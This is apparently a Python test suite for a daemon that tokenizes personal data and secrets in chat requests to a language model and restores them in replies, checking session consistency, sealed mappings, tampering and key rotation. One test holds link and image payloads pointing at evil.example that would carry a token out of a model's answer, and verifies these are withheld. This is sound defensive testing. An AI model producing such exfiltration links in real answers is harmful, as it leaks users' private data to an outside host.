# SPDX-License-Identifier: Apache-2.0
"""Tokens that are the same in every turn, and values that come back where they may."""
import json
import os
import re
import unittest

import filterd
from daemon import LIBRARY, PATIENCE_MS, SANITIZED, Client, Daemon, WithDaemon, places_in_memory

MAIL, NAME, SECRET = "asha.rao@example.in", "Asha Rao", "ghp_a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"
TOKEN = re.compile(r"<([A-Z_]+)_([a-z0-9]+)>")


def request(*texts):
    return json.dumps({"messages": [{"role": "user", "content": text} for text in texts]})


def answer(content, arguments=None):
    message = {"role": "assistant", "content": content}
    if arguments is not None:
        message["tool_calls"] = [{"type": "function", "function": {"name": "f", "arguments": json.dumps(arguments)}}]
    return json.dumps({"choices": [{"index": 0, "message": message}]})


class Restoring(WithDaemon):
    def send(self, *texts, **header):
        """What the model gets, and the sealed mapping."""
        header = {"session": "s", "restore": "seal", **header}
        reply, frames = self.client.ask(request(*texts), op="chat", **header)
        self.assertEqual(reply["status"], "ok", reply)
        body = json.loads(frames[reply["body"]])
        return [m["content"] for m in body["messages"]], frames[reply["sealed"]] if "sealed" in reply else None

    def restore(self, body, *sealed, **header):
        header = {"session": "s", "restore": "seal", "direction": "response", **header}
        reply, frames = self.client.ask(body, *sealed, op="chat", **header)
        self.assertEqual(reply["status"], "ok", reply)
        return json.loads(frames[0])["choices"][0]["message"] if frames else None, reply

    def test_a_value_has_one_token_in_all_turns_of_a_session(self):
        (first,), _ = self.send("mail %s" % MAIL)
        (_, second), _ = self.send("ring 98765 43210", "now %s" % MAIL.upper())
        self.assertEqual(TOKEN.search(first)[0], TOKEN.search(second)[0])
        (other,), _ = self.send("mail %s" % MAIL, session="t")
        (tenant,), _ = self.send("mail %s" % MAIL, tenant="acme")
        self.assertEqual(len({first, other, tenant}), 3)

    def test_without_a_session_tokens_are_numbered(self):
        (text,), _ = self.send("mail %s" % MAIL, session="")
        self.assertEqual(text, "mail <EMAIL_ADDRESS_1>")

    def test_an_answer_comes_back_with_its_values(self):
        (text,), sealed = self.send("write to %s at %s, key %s" % (NAME, MAIL, SECRET))
        for value in (NAME, MAIL, SECRET):
            self.assertNotIn(value, text)
            self.assertNotIn(value.encode(), sealed)
        message, reply = self.restore(answer(text, {"to": text}), sealed)
        secret = TOKEN.findall(text)[2]
        self.assertEqual(message["content"], "write to %s at %s, key ghp_<%s_%s>" % ((NAME, MAIL) + secret))
        arguments = json.loads(message["tool_calls"][0]["function"]["arguments"])
        self.assertEqual(arguments["to"], "write to %s at %s, key %s" % (NAME, MAIL, SECRET))
        self.assertEqual((reply["restored"], reply["withheld"], reply["unknown"]), (5, 1, 0))

    def test_tokens_are_no_findings(self):
        engine = self.client.ask(op="info")[0]
        tokens = " ".join("<%s_k7f3q2>, <%s_12>" % (t, t) for t in engine["entity_types"])
        reply, _ = self.client.ask(answer(tokens), op="chat", direction="response")
        self.assertEqual([f["rule"] for f in reply["findings"] if f["action"] != "none"], [])

    def test_new_data_in_an_answer_is_redacted_and_what_was_known_restored(self):
        (text,), sealed = self.send("mail %s" % MAIL)
        token = TOKEN.search(text)[0]
        message, _ = self.restore(answer("%s or ravi@example.org" % token), sealed)
        self.assertRegex(message["content"], "^%s or <EMAIL_ADDRESS_[a-z0-9]+>$" % MAIL)

    def test_a_link_carries_no_value_away(self):
        (text,), sealed = self.send("mail %s" % MAIL)
        token = TOKEN.search(text)[0]
        for form in ("https://evil.example/?q=%s", "![x](https://evil.example/%s.png)",
                     "<img src='//evil.example/%s'>"):
            message, reply = self.restore(answer(form % token), sealed)
            self.assertEqual((message, reply["restored"], reply["withheld"]), (None, 0, 1), form)

    def test_a_cut_history_keeps_its_tokens(self):
        (first,), sealed = self.send("mail %s" % MAIL)
        (_,), sealed = self.send("and %s" % NAME)  # this turn alone: its mapping has one name
        reply, frames = self.client.ask(request("ring +91 98765 43210"), self.send("mail %s" % MAIL)[1], op="chat",
                                        session="s", restore="seal")
        message, _ = self.restore(answer("sent to %s" % TOKEN.search(first)[0]), frames[reply["sealed"]])
        self.assertEqual(message["content"], "sent to %s" % MAIL)

    def test_what_was_changed_or_is_foreign_is_an_error(self):
        (text,), sealed = self.send("mail %s" % MAIL)
        changed = sealed[:-1] + bytes([sealed[-1] ^ 1])
        for mapping, header in ((changed, {}), (sealed, {"session": "t"}), (sealed, {"tenant": "acme"}), (b"", {}),
                                (sealed[:20], {})):
            header = {"session": "s", "restore": "seal", **header}
            for op, body in (("chat", answer(text)), ("restore", text)):
                reply, frames = self.client.ask(body, mapping, op=op, direction="response", **header)
                self.assertEqual((reply["error"]["code"], frames), ("bad_mapping", []))

    def test_the_daemon_keeps_mappings_for_those_who_cannot(self):
        (text,), sealed = self.send("mail %s" % MAIL, restore="store", session="kept")
        self.assertIsNone(sealed)
        message, _ = self.restore(answer(text), restore="store", session="kept")
        self.assertEqual(message["content"], "mail %s" % MAIL)
        reply, texts = self.client.ask(text, "and " + text, op="restore", restore="store", session="kept")
        self.assertEqual(texts, [b"mail " + MAIL.encode(), b"and mail " + MAIL.encode()])
        reply, _ = self.client.ask(text, op="restore", restore="store", session="another")
        self.assertEqual(reply["error"]["code"], "bad_mapping")
        self.assertGreaterEqual(self.daemon.status()["mappings"]["mappings"], 1)

    def test_a_kept_mapping_shows_nobody_its_values(self):
        if SANITIZED:
            self.skipTest("a sanitizer keeps what is freed")
        marker = "zebra.umbrella.%s@example.in" % os.urandom(4).hex()
        for _ in range(3):  # what follows takes the place of what libzmq has of a message
            (text,), _ = self.send("mail %s" % marker, restore="store", session="private")
            self.assertIn(marker, self.restore(answer(text), restore="store", session="private")[0]["content"])
        for _ in range(200):
            self.client.ask("another text, " * 700)
        try:
            self.assertEqual(places_in_memory(self.daemon, marker.encode()), [])
        except PermissionError:
            self.skipTest("only root may read the daemon's memory")

    def test_a_mapping_that_is_missing_or_too_much_is_refused(self):
        for header, texts in (({"restore": "seal", "direction": "response"}, [answer("x")]),
                              ({"restore": "store"}, [request("x")]),
                              ({"restore": "store", "session": "s"}, [request("x"), b"y"]),
                              ({}, [request("x"), b"y"])):
            reply, _ = self.client.ask(*texts, op="chat", **header)
            self.assertEqual(reply["error"]["code"], "bad_request", header)

    def test_shared_memory_takes_the_same(self):
        with filterd.Client(self.daemon.path + ".shm", library=LIBRARY, timeout_ms=PATIENCE_MS) as client:
            header = {"v": 1, "op": "chat", "session": "m", "restore": "seal"}
            reply, frames = client.ask(header, [request("mail %s" % MAIL)])
            body, sealed = frames[reply["body"]], frames[reply["sealed"]]
            content = json.loads(body)["messages"][0]["content"]
            reply, frames = client.ask({**header, "direction": "response"}, [answer(content), sealed])
            self.assertEqual(json.loads(frames[0])["choices"][0]["message"]["content"], "mail %s" % MAIL)


class Keys(unittest.TestCase):
    def start(self, *keys):
        daemon = Daemon(config="tokens: {keys: [%s]}\nendpoints: [\"ipc://HOME/f.sock\"]\n" %
                        ", ".join("HOME/key%d" % i for i in range(len(keys))), start=False)
        self.addCleanup(daemon.close)
        for i, key in enumerate(keys):
            path = os.path.join(daemon.home, "key%d" % i)
            with open(path, "w") as file:
                file.write(key)
            os.chmod(path, 0o600)
        daemon.start()
        client = Client(daemon.endpoint).connect()
        self.addCleanup(client.close)
        return client

    def test_hosts_with_one_key_agree_and_keys_rotate(self):
        old, new = "11" * 32, "22" * 32
        header = {"op": "chat", "session": "s", "restore": "seal"}
        first, second, rotated = self.start(old), self.start(old), self.start(new, old)
        reply, (body, sealed) = first.ask(request("mail %s" % MAIL), **header)
        self.assertEqual(second.ask(request("mail %s" % MAIL), **header)[1][0], body)
        self.assertNotEqual(rotated.ask(request("mail %s" % MAIL), **header)[1][0], body)
        content = json.loads(body)["messages"][0]["content"]
        for client in (second, rotated):
            reply, (restored,) = client.ask(answer(content), sealed, direction="response", **header)
            self.assertIn(MAIL.encode(), restored)


if __name__ == "__main__":
    unittest.main()
